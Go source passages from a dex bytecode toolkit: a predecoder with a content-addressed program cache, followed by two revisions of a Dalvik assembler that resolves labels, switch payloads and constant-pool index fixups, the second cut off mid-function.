	Inst
	Width  int
	MaxReg int32
	// IC is the compact inline-cache slot for instructions that carry a
	// constant-pool reference (invoke/field/type formats), -1 otherwise.
	// Numbering only those sites keeps a runtime's per-method cache array
	// proportional to the resolution sites instead of the whole body.
	IC int32
}

// carriesPoolRef reports whether the format embeds a constant-pool index
// whose resolution an interpreter would want to cache per site.
func carriesPoolRef(f Format) bool {
	switch f {
	case Fmt21c, Fmt22c, Fmt35c, Fmt3rc:
		return true
	}
	return false
}

// Program is the predecoded form of one unit array: a dense instruction
// stream plus a pc→instruction index. It is immutable after Predecode and
// holds its own copy of the units, so it stays valid (as a snapshot) even
// when the live array it was lowered from is modified in place.
type Program struct {
	units []uint16
	idx   []int32 // pc -> index into code, offset by +1; 0 = no instruction
	code  []DecodedInst
	sites int // number of IC slots handed out (see DecodedInst.IC)
}

// Predecode lowers a unit array into a Program with one linear scan,
// skipping switch payload regions. Decoding stops at the first malformed
// instruction: the tail past it stays unmapped, so an interpreter falling
// back to live Decode there surfaces the identical decode error.
func Predecode(insns []uint16) *Program {
	p := &Program{
		units: append([]uint16(nil), insns...),
		idx:   make([]int32, len(insns)),
	}
	p.code = make([]DecodedInst, 0, len(insns)/2+1)
	for pc := 0; pc < len(insns); {
		if w, ok := PayloadAt(insns, pc); ok {
			pc += w
			continue
		}
		in, width, err := Decode(insns, pc)
		if err != nil {
			break
		}
		ic := int32(-1)
		if carriesPoolRef(in.Op.Format()) {
			ic = int32(p.sites)
			p.sites++
		}
		p.code = append(p.code, DecodedInst{Inst: in, Width: width, MaxReg: MaxRegister(in), IC: ic})
		p.idx[pc] = int32(len(p.code))
		pc += width
	}
	return p
}

// Lookup returns the predecoded instruction starting at pc and its index in
// the instruction stream, or (nil, -1) when pc is not a decoded instruction
// start (payload interior, misaligned pc, or past a malformed instruction).
func (p *Program) Lookup(pc int) (*DecodedInst, int) {
	if pc < 0 || pc >= len(p.idx) {
		return nil, -1
	}
	i := p.idx[pc]
	if i == 0 {
		return nil, -1
	}
	return &p.code[i-1], int(i - 1)
}

// NumInsts returns the number of predecoded instructions.
func (p *Program) NumInsts() int { return len(p.code) }

// NumSites returns the number of inline-cache slots the program assigned.
func (p *Program) NumSites() int { return p.sites }

// ICOf returns the inline-cache slot of predecoded instruction index ci,
// or -1 when ci is out of range or the instruction carries no pool ref.
func (p *Program) ICOf(ci int) int32 {
	if ci < 0 || ci >= len(p.code) {
		return -1
	}
	return p.code[ci].IC
}

// Len returns the unit length of the predecoded snapshot.
func (p *Program) Len() int { return len(p.units) }

// Matches reports whether insns still has the exact content the program was
// predecoded from.
func (p *Program) Matches(insns []uint16) bool {
	if len(insns) != len(p.units) {
		return false
	}
	for i, u := range insns {
		if u != p.units[i] {
			return false
		}
	}
	return true
}

// programCacheLimit caps the number of cached programs; past it the cache is
// dropped wholesale (coarse eviction — predecoding is cheap enough that a
// cold restart is preferable to LRU bookkeeping on the hot path).
const programCacheLimit = 4096

// ProgramCache is a content-addressed, thread-safe cache of predecoded
// programs. Keys are the full unit content (hash plus exact compare), never
// the slice identity, so self-modified code can never alias a stale entry:
// any content change simply hashes to a different program. Worker shards of
// a force-execution campaign share one cache, as do all runtimes of a
// process through the package default.
type ProgramCache struct {
	mu      sync.RWMutex
	entries map[uint64][]*Program
	size    int
}

// NewProgramCache returns an empty program cache.
func NewProgramCache() *ProgramCache {
	return &ProgramCache{entries: make(map[uint64][]*Program)}
}

// hashUnits is FNV-1a over the byte representation of the unit array.
func hashUnits(insns []uint16) uint64 {
	const (
		offset64 = 14695981039346656037
		prime64  = 1099511628211
	)
	h := uint64(offset64)
	for _, u := range insns {
		h ^= uint64(u & 0xff)
		h *= prime64
		h ^= uint64(u >> 8)
		h *= prime64
	}
	return h
}

// Get returns the predecoded program for the exact content of insns,
// building and caching it on a miss. hit reports whether the program was
// already cached.
func (c *ProgramCache) Get(insns []uint16) (p *Program, hit bool) {
	h := hashUnits(insns)
	c.mu.RLock()
	for _, cand := range c.entries[h] {
		if cand.Matches(insns) {
			c.mu.RUnlock()
			return cand, true
		}
	}
	c.mu.RUnlock()

	p = Predecode(insns)
	c.mu.Lock()
	defer c.mu.Unlock()
	for _, cand := range c.entries[h] {
		if cand.Matches(insns) {
			return cand, true // raced with another builder
		}
	}
	if c.size >= programCacheLimit {
		c.entries = make(map[uint64][]*Program)
		c.size = 0
	}
	c.entries[h] = append(c.entries[h], p)
	c.size++
	return p, false
}

// Size returns the number of cached programs.
func (c *ProgramCache) Size() int {
	c.mu.RLock()
	defer c.mu.RUnlock()
	return c.size
}
