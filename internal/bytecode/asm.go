package bytecode

import (
	"fmt"
	"sort"
)

// LabelID identifies one label in a single Assembler's namespace. Hot
// callers (the reassembler's flattener) allocate anonymous IDs directly and
// never pay for label-name strings; the string Label API interns names into
// the same namespace lazily.
type LabelID int32

// Assembler builds a method body from instructions and symbolic labels and
// resolves branch offsets and switch payloads into a final code-unit array.
//
// The zero value is ready to use. All mutating methods record the first
// error and subsequent calls become no-ops; Assemble returns that error.
type Assembler struct {
	items   []asmItem
	binds   []labelBind
	nLabels int32
	byName  map[string]LabelID // lazily allocated: only named labels pay
	err     error
}

type asmItem struct {
	inst    Inst
	branch  LabelID   // label for Off-based formats; -1 = none
	targets []LabelID // labels for switch targets
}

// labelBind records that a label precedes the item-index'th instruction
// (item == len(items) at assemble time binds past the last instruction).
// Binds are appended in emission order, so the list is sorted by item.
type labelBind struct {
	item int32
	id   LabelID
}

func (a *Assembler) fail(format string, args ...any) {
	if a.err == nil {
		a.err = fmt.Errorf("bytecode: asm: "+format, args...)
	}
}

// NewLabel allocates a fresh anonymous label. It carries no name and costs
// no map entry; bind it with BindLabel and reference it from the *ID
// emitters.
func (a *Assembler) NewLabel() LabelID {
	id := LabelID(a.nLabels)
	a.nLabels++
	return id
}

// NewLabelBlock allocates n consecutive anonymous labels and returns the
// first; the block spans [id, id+n). The reassembler's flattener reserves
// one block per collection-tree node so a (node, instruction) pair maps to a
// label by arithmetic instead of a map lookup or a formatted name.
func (a *Assembler) NewLabelBlock(n int) LabelID {
	id := LabelID(a.nLabels)
	a.nLabels += int32(n)
	return id
}

// Intern returns the LabelID for name, allocating it on first sight.
func (a *Assembler) Intern(name string) LabelID {
	if id, ok := a.byName[name]; ok {
		return id
	}
	if a.byName == nil {
		a.byName = make(map[string]LabelID, 8)
	}
	id := a.NewLabel()
	a.byName[name] = id
	return id
}

// nameOf recovers a label's name for diagnostics ("#N" for anonymous ones).
func (a *Assembler) nameOf(id LabelID) string {
	for n, i := range a.byName {
		if i == id {
			return n
		}
	}
	return "#" + fmt.Sprint(int32(id))
}

// BindLabel binds id to the next emitted instruction.
func (a *Assembler) BindLabel(id LabelID) *Assembler {
	if a.err != nil {
		return a
	}
	a.binds = append(a.binds, labelBind{item: int32(len(a.items)), id: id})
	return a
}

// Label binds name to the next emitted instruction.
func (a *Assembler) Label(name string) *Assembler {
	if a.err != nil {
		return a
	}
	return a.BindLabel(a.Intern(name))
}

func (a *Assembler) push(it asmItem) *Assembler {
	if a.err != nil {
		return a
	}
	a.items = append(a.items, it)
	return a
}

// Raw emits a fully formed instruction with no label operands.
func (a *Assembler) Raw(in Inst) *Assembler {
	return a.push(asmItem{inst: in, branch: -1})
}

// RawBranchID emits an instruction whose Off operand resolves from id.
func (a *Assembler) RawBranchID(in Inst, id LabelID) *Assembler {
	return a.push(asmItem{inst: in, branch: id})
}

// RawBranch emits an instruction whose Off operand is resolved from label.
func (a *Assembler) RawBranch(in Inst, label string) *Assembler {
	if a.err != nil {
		return a
	}
	return a.RawBranchID(in, a.Intern(label))
}

// RawSwitchID emits a switch instruction whose case targets resolve from
// ids (copied; the caller may reuse the slice). in.Keys must already hold
// the case keys.
func (a *Assembler) RawSwitchID(in Inst, ids []LabelID) *Assembler {
	if len(in.Keys) != len(ids) {
		a.fail("%s: %d keys but %d labels", in.Op, len(in.Keys), len(ids))
		return a
	}
	return a.push(asmItem{inst: in, branch: -1, targets: append([]LabelID(nil), ids...)})
}

// RawSwitch emits a switch instruction whose case targets are resolved from
// labels; in.Keys must already hold the case keys.
func (a *Assembler) RawSwitch(in Inst, labels []string) *Assembler {
	if a.err != nil {
		return a
	}
	ids := make([]LabelID, len(labels))
	for i, l := range labels {
		ids[i] = a.Intern(l)
	}
	return a.RawSwitchID(in, ids)
}

// Nop emits a nop.
func (a *Assembler) Nop() *Assembler { return a.Raw(Inst{Op: OpNop}) }

// Move emits move vA, vB.
func (a *Assembler) Move(dst, src int32) *Assembler {
	if dst <= 0xf && src <= 0xf {
		return a.Raw(Inst{Op: OpMove, A: dst, B: src})
	}
	return a.Raw(Inst{Op: OpMoveFrom16, A: dst, B: src})
}

// MoveObject emits move-object vA, vB.
func (a *Assembler) MoveObject(dst, src int32) *Assembler {
	if dst <= 0xf && src <= 0xf {
		return a.Raw(Inst{Op: OpMoveObject, A: dst, B: src})
	}
	return a.Raw(Inst{Op: OpMoveObject16, A: dst, B: src})
}

// MoveResult emits move-result vAA.
func (a *Assembler) MoveResult(dst int32) *Assembler {
	return a.Raw(Inst{Op: OpMoveResult, A: dst})
}

// MoveResultObject emits move-result-object vAA.
func (a *Assembler) MoveResultObject(dst int32) *Assembler {
	return a.Raw(Inst{Op: OpMoveResultObj, A: dst})
}

// MoveException emits move-exception vAA.
func (a *Assembler) MoveException(dst int32) *Assembler {
	return a.Raw(Inst{Op: OpMoveException, A: dst})
}

// ReturnVoid emits return-void.
func (a *Assembler) ReturnVoid() *Assembler { return a.Raw(Inst{Op: OpReturnVoid}) }

// Return emits return vAA.
func (a *Assembler) Return(v int32) *Assembler { return a.Raw(Inst{Op: OpReturn, A: v}) }

// ReturnObject emits return-object vAA.
func (a *Assembler) ReturnObject(v int32) *Assembler {
	return a.Raw(Inst{Op: OpReturnObject, A: v})
}

// Const emits the narrowest const variant that holds lit.
func (a *Assembler) Const(dst int32, lit int64) *Assembler {
	switch {
	case dst <= 0xf && fitsS(lit, 4):
		return a.Raw(Inst{Op: OpConst4, A: dst, Lit: lit})
	case fitsS(lit, 16):
		return a.Raw(Inst{Op: OpConst16, A: dst, Lit: lit})
	case lit&0xffff == 0 && fitsS(lit>>16, 16):
		return a.Raw(Inst{Op: OpConstHigh16, A: dst, Lit: lit})
	default:
		return a.Raw(Inst{Op: OpConst, A: dst, Lit: lit})
	}
}

// ConstString emits const-string vAA, string@idx.
func (a *Assembler) ConstString(dst int32, idx uint32) *Assembler {
	return a.Raw(Inst{Op: OpConstString, A: dst, Index: idx})
}

// ConstClass emits const-class vAA, type@idx.
func (a *Assembler) ConstClass(dst int32, idx uint32) *Assembler {
	return a.Raw(Inst{Op: OpConstClass, A: dst, Index: idx})
}

// CheckCast emits check-cast vAA, type@idx.
func (a *Assembler) CheckCast(v int32, idx uint32) *Assembler {
	return a.Raw(Inst{Op: OpCheckCast, A: v, Index: idx})
}

// InstanceOf emits instance-of vA, vB, type@idx.
func (a *Assembler) InstanceOf(dst, src int32, idx uint32) *Assembler {
	return a.Raw(Inst{Op: OpInstanceOf, A: dst, B: src, Index: idx})
}

// ArrayLength emits array-length vA, vB.
func (a *Assembler) ArrayLength(dst, arr int32) *Assembler {
	return a.Raw(Inst{Op: OpArrayLength, A: dst, B: arr})
}

// NewInstance emits new-instance vAA, type@idx.
func (a *Assembler) NewInstance(dst int32, idx uint32) *Assembler {
	return a.Raw(Inst{Op: OpNewInstance, A: dst, Index: idx})
}

// NewArray emits new-array vA, vB, type@idx.
func (a *Assembler) NewArray(dst, size int32, idx uint32) *Assembler {
	return a.Raw(Inst{Op: OpNewArray, A: dst, B: size, Index: idx})
}

// Throw emits throw vAA.
func (a *Assembler) Throw(v int32) *Assembler { return a.Raw(Inst{Op: OpThrow, A: v}) }

// Goto emits an unconditional jump to label (16-bit reach).
func (a *Assembler) Goto(label string) *Assembler {
	return a.RawBranch(Inst{Op: OpGoto16}, label)
}

// GotoID emits an unconditional jump to a label ID (16-bit reach).
func (a *Assembler) GotoID(id LabelID) *Assembler {
	return a.RawBranchID(Inst{Op: OpGoto16}, id)
}

// If emits a two-register conditional branch (if-eq .. if-le) to label.
func (a *Assembler) If(op Opcode, va, vb int32, label string) *Assembler {
	if op < OpIfEq || op > OpIfLe {
		a.fail("If: %s is not an if-test opcode", op)
		return a
	}
	return a.RawBranch(Inst{Op: op, A: va, B: vb}, label)
}

// IfZ emits a single-register zero-test branch (if-eqz .. if-lez) to label.
func (a *Assembler) IfZ(op Opcode, v int32, label string) *Assembler {
	if op < OpIfEqz || op > OpIfLez {
		a.fail("IfZ: %s is not an if-testz opcode", op)
		return a
	}
	return a.RawBranch(Inst{Op: op, A: v}, label)
}

// Binop emits a three-register arithmetic instruction.
func (a *Assembler) Binop(op Opcode, dst, va, vb int32) *Assembler {
	return a.Raw(Inst{Op: op, A: dst, B: va, C: vb})
}

// BinopLit8 emits an arithmetic instruction with an 8-bit literal.
func (a *Assembler) BinopLit8(op Opcode, dst, src int32, lit int64) *Assembler {
	return a.Raw(Inst{Op: op, A: dst, B: src, Lit: lit})
}

// Unop emits a one-operand arithmetic instruction (neg-int, not-int).
func (a *Assembler) Unop(op Opcode, dst, src int32) *Assembler {
	return a.Raw(Inst{Op: op, A: dst, B: src})
}

// Invoke emits a 35c invoke with up to five argument registers.
func (a *Assembler) Invoke(op Opcode, method uint32, regs ...int) *Assembler {
	return a.Raw(Inst{Op: op, Index: method, Args: append([]int(nil), regs...), A: int32(len(regs))})
}

// InvokeRange emits a 3rc invoke covering count registers from start.
func (a *Assembler) InvokeRange(op Opcode, method uint32, start, count int) *Assembler {
	args := make([]int, count)
	for i := range args {
		args[i] = start + i
	}
	return a.Raw(Inst{Op: op, Index: method, Args: args, A: int32(count)})
}

// IGet emits an instance field read; op selects the iget variant.
func (a *Assembler) IGet(op Opcode, dst, obj int32, field uint32) *Assembler {
	return a.Raw(Inst{Op: op, A: dst, B: obj, Index: field})
}

// IPut emits an instance field write; op selects the iput variant.
func (a *Assembler) IPut(op Opcode, src, obj int32, field uint32) *Assembler {
	return a.Raw(Inst{Op: op, A: src, B: obj, Index: field})
}

// SGet emits a static field read; op selects the sget variant.
func (a *Assembler) SGet(op Opcode, dst int32, field uint32) *Assembler {
	return a.Raw(Inst{Op: op, A: dst, Index: field})
}

// SPut emits a static field write; op selects the sput variant.
func (a *Assembler) SPut(op Opcode, src int32, field uint32) *Assembler {
	return a.Raw(Inst{Op: op, A: src, Index: field})
}

// AGet emits an array element read; op selects the aget variant.
func (a *Assembler) AGet(op Opcode, dst, arr, idx int32) *Assembler {
	return a.Raw(Inst{Op: op, A: dst, B: arr, C: idx})
}

// APut emits an array element write; op selects the aput variant.
func (a *Assembler) APut(op Opcode, src, arr, idx int32) *Assembler {
	return a.Raw(Inst{Op: op, A: src, B: arr, C: idx})
}

// PackedSwitch emits packed-switch vAA with consecutive keys starting at
// firstKey; one label per case.
func (a *Assembler) PackedSwitch(v int32, firstKey int32, labels []string) *Assembler {
	keys := make([]int32, len(labels))
	for i := range keys {
		keys[i] = firstKey + int32(i)
	}
	return a.RawSwitch(Inst{Op: OpPackedSwitch, A: v, Keys: keys}, labels)
}

// SparseSwitch emits sparse-switch vAA with explicit keys (sorted
// internally); one label per case.
func (a *Assembler) SparseSwitch(v int32, keys []int32, labels []string) *Assembler {
	if len(keys) != len(labels) {
		a.fail("SparseSwitch: %d keys but %d labels", len(keys), len(labels))
		return a
	}
	type kv struct {
		k int32
		l string
	}
	pairs := make([]kv, len(keys))
	for i := range keys {
		pairs[i] = kv{keys[i], labels[i]}
	}
	sort.Slice(pairs, func(i, j int) bool { return pairs[i].k < pairs[j].k })
	sk := make([]int32, len(pairs))
	sl := make([]string, len(pairs))
	for i, p := range pairs {
		sk[i] = p.k
		sl[i] = p.l
	}
	return a.RawSwitch(Inst{Op: OpSparseSwitch, A: v, Keys: sk}, sl)
}

// IndexFixup records that the instruction at PC carries a constant-pool
// index of the given kind. The 16-bit index operand of every index-bearing
// format this assembler emits (21c, 22c, 35c, 3rc) sits in the code unit at
// PC+1, so a later table permutation can patch operands in place without
// decoding the instruction stream (see dex.Builder.Finish).
type IndexFixup struct {
	PC   int32
	Kind IndexKind
}

// Labels holds the resolved dex_pc of every label after assembly.
type Labels struct {
	pcs    []int32 // by LabelID; -1 = never bound
	byName map[string]LabelID
}

// PC returns the resolved position of a label ID.
func (l *Labels) PC(id LabelID) (int, bool) {
	if l == nil || int(id) >= len(l.pcs) || id < 0 || l.pcs[id] < 0 {
		return 0, false
	}
	return int(l.pcs[id]), true
}

// Name returns the resolved position of a named label.
func (l *Labels) Name(name string) (int, bool) {
	if l == nil {
		return 0, false
	}
	id, ok := l.byName[name]
	if !ok {
		return 0, false
	}
	return l.PC(id)
}

// AsmResult is the output of AssembleFull.
type AsmResult struct {
	Insns  []uint16
	Labels Labels
	Fixups []IndexFixup // non-nil; one entry per index-bearing instruction
}

// Assemble lays out the program, resolves labels and switch payloads, and
// returns the final code-unit array.
func (a *Assembler) Assemble() ([]uint16, error) {
	res, err := a.AssembleFull()
	return res.Insns, err
}

// AssembleFull is Assemble plus the resolved dex_pc of every label (used to
// anchor try/catch ranges) and the index-operand fixup list.
func (a *Assembler) AssembleFull() (AsmResult, error) {
	if a.err != nil {
		return AsmResult{}, a.err
	}
	// First pass: assign dex_pc to every instruction and label.
	pcs := make([]int32, a.nLabels)
	for i := range pcs {
		pcs[i] = -1
	}
	itemPC := make([]int32, len(a.items)+1)
	pc := 0
	fixups := make([]IndexFixup, 0, len(a.items)/4+1)
	for i := range a.items {
		itemPC[i] = int32(pc)
		in := &a.items[i].inst
		if in.Op.Index() != IndexNone {
			fixups = append(fixups, IndexFixup{PC: int32(pc), Kind: in.Op.Index()})
		}
		pc += in.Width()
	}
	itemPC[len(a.items)] = int32(pc)
	for _, bind := range a.binds {
		if pcs[bind.id] >= 0 {
			return AsmResult{}, fmt.Errorf("bytecode: asm: duplicate label %q", a.nameOf(bind.id))
		}
		pcs[bind.id] = itemPC[bind.item]
	}
	bodyLen := pc

	// Second pass: place switch payloads after the body, 4-byte aligned.
	var payloadPC []int
	for i := range a.items {
		if !a.items[i].inst.Op.IsSwitch() {
			continue
		}
		if payloadPC == nil {
			payloadPC = make([]int, len(a.items))
		}
		if pc%2 != 0 {
			pc++ // nop pad
		}
		payloadPC[i] = pc
		pc += a.items[i].inst.PayloadWidth()
	}

	out := make([]uint16, 0, pc)
	emitTo := func(want int) {
		for len(out) < want {
			out = append(out, uint16(OpNop))
		}
	}
	resolve := func(id LabelID, at int) (int32, error) {
		if int(id) >= len(pcs) || pcs[id] < 0 {
			return 0, fmt.Errorf("bytecode: asm: undefined label %q", a.nameOf(id))
		}
		return pcs[id] - int32(at), nil
	}
	for i := range a.items {
		it := &a.items[i]
		in := it.inst
		at := int(itemPC[i])
		if it.branch >= 0 {
			off, err := resolve(it.branch, at)
			if err != nil {
				return AsmResult{}, err
			}
			in.Off = off
		}
		if len(it.targets) > 0 {
			in.Targets = make([]int32, len(it.targets))
			for j, l := range it.targets {
				off, err := resolve(l, at)
				if err != nil {
					return AsmResult{}, err
				}
				in.Targets[j] = off
			}
			in.Off = int32(payloadPC[i] - at)
		}
		units, err := Encode(in)
		if err != nil {
			return AsmResult{}, err
		}
		emitTo(at)
		out = append(out, units...)
	}
	emitTo(bodyLen)
	for i := range a.items {
		it := &a.items[i]
		if !it.inst.Op.IsSwitch() {
			continue
		}
		in := it.inst
		at := int(itemPC[i])
		in.Targets = make([]int32, len(it.targets))
		for j, l := range it.targets {
			off, err := resolve(l, at)
			if err != nil {
				return AsmResult{}, err
			}
			in.Targets[j] = off
		}
		payload, err := EncodePayload(in)
		if err != nil {
			return AsmResult{}, err
		}
		emitTo(payloadPC[i])
		out = append(out, payload...)
	}
	return AsmResult{Insns: out, Labels: Labels{pcs: pcs, byName: a.byName}, Fixups: fixups}, nil
}
