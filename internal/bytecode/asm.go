package bytecode

import (
	"fmt"
	"sort"
)

// Assembler builds a method body from instructions and symbolic labels and
// resolves branch offsets and switch payloads into a final code-unit array.
//
// The zero value is ready to use. All mutating methods record the first
// error and subsequent calls become no-ops; Assemble returns that error.
type Assembler struct {
	items []asmItem
	err   error
}

type asmItem struct {
	labels  []string // labels bound to this position
	inst    Inst
	branch  string   // label for Off-based formats
	targets []string // labels for switch targets
	present bool     // false for a trailing label-only item
}

func (a *Assembler) fail(format string, args ...any) {
	if a.err == nil {
		a.err = fmt.Errorf("bytecode: asm: "+format, args...)
	}
}

// Label binds name to the next emitted instruction.
func (a *Assembler) Label(name string) *Assembler {
	if a.err != nil {
		return a
	}
	if len(a.items) > 0 && !a.items[len(a.items)-1].present {
		a.items[len(a.items)-1].labels = append(a.items[len(a.items)-1].labels, name)
		return a
	}
	a.items = append(a.items, asmItem{labels: []string{name}})
	return a
}

func (a *Assembler) push(it asmItem) *Assembler {
	if a.err != nil {
		return a
	}
	it.present = true
	if len(a.items) > 0 && !a.items[len(a.items)-1].present {
		it.labels = append(a.items[len(a.items)-1].labels, it.labels...)
		a.items[len(a.items)-1] = it
		return a
	}
	a.items = append(a.items, it)
	return a
}

// Raw emits a fully formed instruction with no label operands.
func (a *Assembler) Raw(in Inst) *Assembler {
	return a.push(asmItem{inst: in})
}

// RawBranch emits an instruction whose Off operand is resolved from label.
func (a *Assembler) RawBranch(in Inst, label string) *Assembler {
	return a.push(asmItem{inst: in, branch: label})
}

// RawSwitch emits a switch instruction whose case targets are resolved from
// labels; in.Keys must already hold the case keys.
func (a *Assembler) RawSwitch(in Inst, labels []string) *Assembler {
	if len(in.Keys) != len(labels) {
		a.fail("%s: %d keys but %d labels", in.Op, len(in.Keys), len(labels))
		return a
	}
	return a.push(asmItem{inst: in, targets: append([]string(nil), labels...)})
}

// Nop emits a nop.
func (a *Assembler) Nop() *Assembler { return a.Raw(Inst{Op: OpNop}) }

// Move emits move vA, vB.
func (a *Assembler) Move(dst, src int32) *Assembler {
	if dst <= 0xf && src <= 0xf {
		return a.Raw(Inst{Op: OpMove, A: dst, B: src})
	}
	return a.Raw(Inst{Op: OpMoveFrom16, A: dst, B: src})
}

// MoveObject emits move-object vA, vB.
func (a *Assembler) MoveObject(dst, src int32) *Assembler {
	if dst <= 0xf && src <= 0xf {
		return a.Raw(Inst{Op: OpMoveObject, A: dst, B: src})
	}
	return a.Raw(Inst{Op: OpMoveObject16, A: dst, B: src})
}

// MoveResult emits move-result vAA.
func (a *Assembler) MoveResult(dst int32) *Assembler {
	return a.Raw(Inst{Op: OpMoveResult, A: dst})
}

// MoveResultObject emits move-result-object vAA.
func (a *Assembler) MoveResultObject(dst int32) *Assembler {
	return a.Raw(Inst{Op: OpMoveResultObj, A: dst})
}

// MoveException emits move-exception vAA.
func (a *Assembler) MoveException(dst int32) *Assembler {
	return a.Raw(Inst{Op: OpMoveException, A: dst})
}

// ReturnVoid emits return-void.
func (a *Assembler) ReturnVoid() *Assembler { return a.Raw(Inst{Op: OpReturnVoid}) }

// Return emits return vAA.
func (a *Assembler) Return(v int32) *Assembler { return a.Raw(Inst{Op: OpReturn, A: v}) }

// ReturnObject emits return-object vAA.
func (a *Assembler) ReturnObject(v int32) *Assembler {
	return a.Raw(Inst{Op: OpReturnObject, A: v})
}

// Const emits the narrowest const variant that holds lit.
func (a *Assembler) Const(dst int32, lit int64) *Assembler {
	switch {
	case dst <= 0xf && fitsS(lit, 4):
		return a.Raw(Inst{Op: OpConst4, A: dst, Lit: lit})
	case fitsS(lit, 16):
		return a.Raw(Inst{Op: OpConst16, A: dst, Lit: lit})
	case lit&0xffff == 0 && fitsS(lit>>16, 16):
		return a.Raw(Inst{Op: OpConstHigh16, A: dst, Lit: lit})
	default:
		return a.Raw(Inst{Op: OpConst, A: dst, Lit: lit})
	}
}

// ConstString emits const-string vAA, string@idx.
func (a *Assembler) ConstString(dst int32, idx uint32) *Assembler {
	return a.Raw(Inst{Op: OpConstString, A: dst, Index: idx})
}

// ConstClass emits const-class vAA, type@idx.
func (a *Assembler) ConstClass(dst int32, idx uint32) *Assembler {
	return a.Raw(Inst{Op: OpConstClass, A: dst, Index: idx})
}

// CheckCast emits check-cast vAA, type@idx.
func (a *Assembler) CheckCast(v int32, idx uint32) *Assembler {
	return a.Raw(Inst{Op: OpCheckCast, A: v, Index: idx})
}

// InstanceOf emits instance-of vA, vB, type@idx.
func (a *Assembler) InstanceOf(dst, src int32, idx uint32) *Assembler {
	return a.Raw(Inst{Op: OpInstanceOf, A: dst, B: src, Index: idx})
}

// ArrayLength emits array-length vA, vB.
func (a *Assembler) ArrayLength(dst, arr int32) *Assembler {
	return a.Raw(Inst{Op: OpArrayLength, A: dst, B: arr})
}

// NewInstance emits new-instance vAA, type@idx.
func (a *Assembler) NewInstance(dst int32, idx uint32) *Assembler {
	return a.Raw(Inst{Op: OpNewInstance, A: dst, Index: idx})
}

// NewArray emits new-array vA, vB, type@idx.
func (a *Assembler) NewArray(dst, size int32, idx uint32) *Assembler {
	return a.Raw(Inst{Op: OpNewArray, A: dst, B: size, Index: idx})
}

// Throw emits throw vAA.
func (a *Assembler) Throw(v int32) *Assembler { return a.Raw(Inst{Op: OpThrow, A: v}) }

// Goto emits an unconditional jump to label (16-bit reach).
func (a *Assembler) Goto(label string) *Assembler {
	return a.RawBranch(Inst{Op: OpGoto16}, label)
}

// If emits a two-register conditional branch (if-eq .. if-le) to label.
func (a *Assembler) If(op Opcode, va, vb int32, label string) *Assembler {
	if op < OpIfEq || op > OpIfLe {
		a.fail("If: %s is not an if-test opcode", op)
		return a
	}
	return a.RawBranch(Inst{Op: op, A: va, B: vb}, label)
}

// IfZ emits a single-register zero-test branch (if-eqz .. if-lez) to label.
func (a *Assembler) IfZ(op Opcode, v int32, label string) *Assembler {
	if op < OpIfEqz || op > OpIfLez {
		a.fail("IfZ: %s is not an if-testz opcode", op)
		return a
	}
	return a.RawBranch(Inst{Op: op, A: v}, label)
}

// Binop emits a three-register arithmetic instruction.
func (a *Assembler) Binop(op Opcode, dst, va, vb int32) *Assembler {
	return a.Raw(Inst{Op: op, A: dst, B: va, C: vb})
}

// BinopLit8 emits an arithmetic instruction with an 8-bit literal.
func (a *Assembler) BinopLit8(op Opcode, dst, src int32, lit int64) *Assembler {
	return a.Raw(Inst{Op: op, A: dst, B: src, Lit: lit})
}

// Unop emits a one-operand arithmetic instruction (neg-int, not-int).
func (a *Assembler) Unop(op Opcode, dst, src int32) *Assembler {
	return a.Raw(Inst{Op: op, A: dst, B: src})
}

// Invoke emits a 35c invoke with up to five argument registers.
func (a *Assembler) Invoke(op Opcode, method uint32, regs ...int) *Assembler {
	return a.Raw(Inst{Op: op, Index: method, Args: append([]int(nil), regs...), A: int32(len(regs))})
}

// InvokeRange emits a 3rc invoke covering count registers from start.
func (a *Assembler) InvokeRange(op Opcode, method uint32, start, count int) *Assembler {
	args := make([]int, count)
	for i := range args {
		args[i] = start + i
	}
	return a.Raw(Inst{Op: op, Index: method, Args: args, A: int32(count)})
}

// IGet emits an instance field read; op selects the iget variant.
func (a *Assembler) IGet(op Opcode, dst, obj int32, field uint32) *Assembler {
	return a.Raw(Inst{Op: op, A: dst, B: obj, Index: field})
}

// IPut emits an instance field write; op selects the iput variant.
func (a *Assembler) IPut(op Opcode, src, obj int32, field uint32) *Assembler {
	return a.Raw(Inst{Op: op, A: src, B: obj, Index: field})
}

// SGet emits a static field read; op selects the sget variant.
func (a *Assembler) SGet(op Opcode, dst int32, field uint32) *Assembler {
	return a.Raw(Inst{Op: op, A: dst, Index: field})
}

// SPut emits a static field write; op selects the sput variant.
func (a *Assembler) SPut(op Opcode, src int32, field uint32) *Assembler {
	return a.Raw(Inst{Op: op, A: src, Index: field})
}

// AGet emits an array element read; op selects the aget variant.
func (a *Assembler) AGet(op Opcode, dst, arr, idx int32) *Assembler {
	return a.Raw(Inst{Op: op, A: dst, B: arr, C: idx})
}

// APut emits an array element write; op selects the aput variant.
func (a *Assembler) APut(op Opcode, src, arr, idx int32) *Assembler {
	return a.Raw(Inst{Op: op, A: src, B: arr, C: idx})
}

// PackedSwitch emits packed-switch vAA with consecutive keys starting at
// firstKey; one label per case.
func (a *Assembler) PackedSwitch(v int32, firstKey int32, labels []string) *Assembler {
	keys := make([]int32, len(labels))
	for i := range keys {
		keys[i] = firstKey + int32(i)
	}
	return a.RawSwitch(Inst{Op: OpPackedSwitch, A: v, Keys: keys}, labels)
}

// SparseSwitch emits sparse-switch vAA with explicit keys (sorted
// internally); one label per case.
func (a *Assembler) SparseSwitch(v int32, keys []int32, labels []string) *Assembler {
	if len(keys) != len(labels) {
		a.fail("SparseSwitch: %d keys but %d labels", len(keys), len(labels))
		return a
	}
	type kv struct {
		k int32
		l string
	}
	pairs := make([]kv, len(keys))
	for i := range keys {
		pairs[i] = kv{keys[i], labels[i]}
	}
	sort.Slice(pairs, func(i, j int) bool { return pairs[i].k < pairs[j].k })
	sk := make([]int32, len(pairs))
	sl := make([]string, len(pairs))
	for i, p := range pairs {
		sk[i] = p.k
		sl[i] = p.l
	}
	return a.RawSwitch(Inst{Op: OpSparseSwitch, A: v, Keys: sk}, sl)
}

// Assemble lays out the program, resolves labels and switch payloads, and
// returns the final code-unit array.
func (a *Assembler) Assemble() ([]uint16, error) {
	insns, _, err := a.AssembleWithLabels()
	return insns, err
}

// AssembleWithLabels is Assemble plus the resolved dex_pc of every label
// (used to anchor try/catch ranges).
func (a *Assembler) AssembleWithLabels() ([]uint16, map[string]int, error) {
	if a.err != nil {
		return nil, nil, a.err
	}
	// First pass: assign dex_pc to every instruction and label.
	pcOf := make(map[string]int)
	pc := 0
	type placedItem struct {
		pc int
		it asmItem
	}
	placed := make([]placedItem, 0, len(a.items))
	for _, it := range a.items {
